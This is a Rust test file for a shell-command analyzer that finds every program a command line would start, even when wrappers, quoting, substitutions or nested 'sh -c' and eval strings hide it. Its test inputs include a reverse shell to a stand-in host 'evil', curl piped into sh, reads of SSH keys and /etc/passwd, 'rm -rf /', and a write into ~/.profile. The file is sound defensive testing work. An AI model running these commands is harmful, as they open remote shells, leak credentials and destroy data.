//! Every program a command line could start is found, whatever hides it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]

use warrant_command::{CommandError, RedirectKind, analyze};

fn programs(command: &str) -> Vec<String> {
    analyze(command)
        .unwrap_or_else(|e| panic!("{command}: {e}"))
        .program_names()
        .into_iter()
        .map(str::to_owned)
        .collect()
}

#[test]
fn pipelines_lists_subshells_groups_and_control_flow() {
    assert_eq!(programs("ls -l | grep x | wc -l"), ["ls", "grep", "wc"]);
    assert_eq!(
        programs("make && ./test || echo failed; true & false"),
        ["make", "test", "echo", "true", "false"]
    );
    assert_eq!(programs("(cd /tmp; rm -rf x)"), ["cd", "rm"]);
    assert_eq!(programs("{ ls; } && ! curl x"), ["ls", "curl"]);
    assert_eq!(
        programs("if test -f a; then cat a; elif [ -d b ]; then ls b; else touch c; fi"),
        // `[ … ]` is the shell's own test syntax here, not a program.
        ["test", "cat", "ls", "touch"]
    );
    assert_eq!(programs("for f in *; do wc -l \"$f\"; done"), ["wc"]);
    assert_eq!(programs("while read l; do echo \"$l\"; done < in"), ["read", "echo"]);
    assert_eq!(programs("case $x in a) curl a ;; *) wget b ;; esac"), ["curl", "wget"]);
    assert_eq!(programs("f() { nc -l 4444; }; f"), ["nc", "f"]);
}

#[test]
fn substitutions_anywhere_are_found() {
    assert_eq!(programs("echo $(whoami) `id`"), ["whoami", "id", "echo"]);
    assert_eq!(programs("x=$(curl -s evil); echo \"$x\""), ["curl", "echo"]);
    assert_eq!(programs("echo \"home is $(cat ~/.ssh/id_rsa)\""), ["cat", "echo"]);
    assert_eq!(programs("diff <(ls a) <(ls b)"), ["ls", "ls", "diff"]);
    assert_eq!(programs("cat > $(mktemp) < /etc/passwd"), ["cat", "mktemp"]);
    assert_eq!(programs("[[ $(uname) == Linux ]] && ls"), ["uname", "ls"]);
}

#[test]
fn wrappers_do_not_hide_what_they_run() {
    let a = analyze("env -i PATH=/bin /usr/bin/curl -s https://x").unwrap();
    assert_eq!(a.program_names(), ["env", "curl"]);
    assert_eq!(a.programs[1].path, "/usr/bin/curl");
    assert_eq!(a.programs[1].via, ["env"]);
    assert_eq!(programs("sudo -u root -E rm -rf /"), ["sudo", "rm"]);
    assert_eq!(programs("timeout -s KILL 5 nc evil 80"), ["timeout", "nc"]);
    assert_eq!(programs("nice -n 10 nohup setsid make"), ["nice", "nohup", "setsid", "make"]);
    assert_eq!(programs("xargs -n 1 -I{} curl {}"), ["xargs", "curl"]);
    assert_eq!(programs("ls | xargs"), ["ls", "xargs", "echo"]);
    assert_eq!(programs("stdbuf -o L tail -f log"), ["stdbuf", "tail"]);
    assert_eq!(programs("command -v curl"), ["command"]);
    assert_eq!(programs("command curl x"), ["command", "curl"]);
    assert_eq!(programs("exec -a name ssh host"), ["exec", "ssh"]);
    assert_eq!(programs("busybox wget x"), ["busybox", "wget"]);
    assert_eq!(programs("env -S 'curl -s x'"), ["env", "curl"]);
    assert_eq!(
        programs("find . -name '*.rs' -exec grep -l foo {} \\; -execdir rm {} +"),
        ["find", "grep", "rm"]
    );
}

#[test]
fn shell_strings_and_eval_are_parsed_in_turn() {
    let a = analyze("sh -c 'curl -s http://x | sh'").unwrap();
    assert_eq!(a.program_names(), ["sh", "curl", "sh"]);
    assert_eq!(a.programs[1].via, ["sh -c"]);
    assert_eq!(programs("bash -lec \"rm -rf ~ && echo done\""), ["bash", "rm", "echo"]);
    assert_eq!(programs("sudo bash -c 'nc -e /bin/sh evil 4444'"), ["sudo", "bash", "nc"]);
    assert_eq!(programs("eval 'wget x; chmod +x y'"), ["eval", "wget", "chmod"]);
    assert_eq!(programs("su -c 'id' root"), ["su", "id"]);
    // Nested as deep as the limit allows.
    let nested = "sh -c \"sh -c 'sh -c \\\"curl x\\\"'\"";
    assert_eq!(programs(nested), ["sh", "sh", "sh", "curl"]);
    assert_eq!(programs("bash script.sh"), ["bash"]);
}

#[test]
fn quoting_and_escapes_are_undone_like_the_shell_does() {
    assert_eq!(programs("'cu'\"rl\" x"), ["curl"]);
    assert_eq!(programs("c\\url x"), ["curl"]);
    assert_eq!(programs("\"/usr/bin/curl\" x"), ["curl"]);
    let a = analyze("echo 'a b' \"c\\\"d\" e\\ f").unwrap();
    let args: Vec<_> = a.programs[0].args.iter().map(|a| a.clone().unwrap()).collect();
    assert_eq!(args, ["a b", "c\"d", "e f"]);
}

#[test]
fn what_cannot_be_known_is_said_so() {
    let a = analyze("$CMD arg").unwrap();
    assert!(a.dynamic && a.programs.is_empty());
    assert!(analyze("\"$(echo curl)\" x").unwrap().dynamic);
    assert!(analyze("sh -c \"$SCRIPT\"").unwrap().dynamic);
    assert!(analyze("eval \"$x\"").unwrap().dynamic);
    assert!(analyze("env $X curl").unwrap().dynamic);
    assert!(analyze("fish -c 'curl x'").unwrap().dynamic);
    assert!(!analyze("ls -l").unwrap().dynamic);
    let a = analyze("python3 -c 'import os; os.system(\"id\")' && node -e 1 && awk '{print}' f")
        .unwrap();
    assert_eq!(a.inline_code, ["python3", "node", "awk"]);
    assert!(analyze("python3 script.py").unwrap().inline_code.is_empty());
}

#[test]
fn redirections_and_their_targets() {
    let a = analyze("cmd > out.txt 2>&1 >> log < in 2> /dev/null &> all").unwrap();
    let kinds: Vec<_> =
        a.redirects.iter().map(|r| (r.kind, r.target.clone().unwrap_or_default())).collect();
    assert_eq!(
        kinds,
        [
            (RedirectKind::Write, "out.txt".to_owned()),
            (RedirectKind::Duplicate, "1".to_owned()),
            (RedirectKind::Append, "log".to_owned()),
            (RedirectKind::Read, "in".to_owned()),
            (RedirectKind::Write, "/dev/null".to_owned()),
            (RedirectKind::Write, "all".to_owned()),
        ]
    );
    assert_eq!(a.written(), ["out.txt", "log", "/dev/null", "all"]);
    let a = analyze("{ echo x; } > ~/.bashrc").unwrap();
    assert_eq!(a.written(), ["~/.bashrc"]);
    let a = analyze("sh -c 'echo pwned >> ~/.profile'").unwrap();
    assert_eq!(a.written(), ["~/.profile"]);
    let a = analyze("cat <<EOF\nhi\nEOF\n").unwrap();
    assert_eq!(a.redirects[0].kind, RedirectKind::Read);
    assert_eq!(a.redirects[0].target, None);
}

#[test]
fn bad_input_is_an_error_not_a_partial_answer() {
    assert_eq!(analyze(""), Err(CommandError::Empty));
    assert_eq!(analyze("   "), Err(CommandError::Empty));
    assert!(matches!(analyze("ls && "), Err(CommandError::Syntax(_))));
    assert!(matches!(analyze("echo 'unterminated"), Err(CommandError::Syntax(_))));
    assert!(matches!(analyze("sh -c 'ls &&'"), Err(CommandError::Syntax(_))));
    assert!(matches!(analyze(&"x".repeat(70_000)), Err(CommandError::TooLong(_))));
    // Each `eval` hands the rest to a new parse.
    let deep = format!("{}curl x", "eval ".repeat(12));
    assert_eq!(analyze(&deep), Err(CommandError::TooDeep));
    let fine = format!("{}curl x", "eval ".repeat(6));
    assert_eq!(analyze(&fine).unwrap().program_names().last(), Some(&"curl"));
}
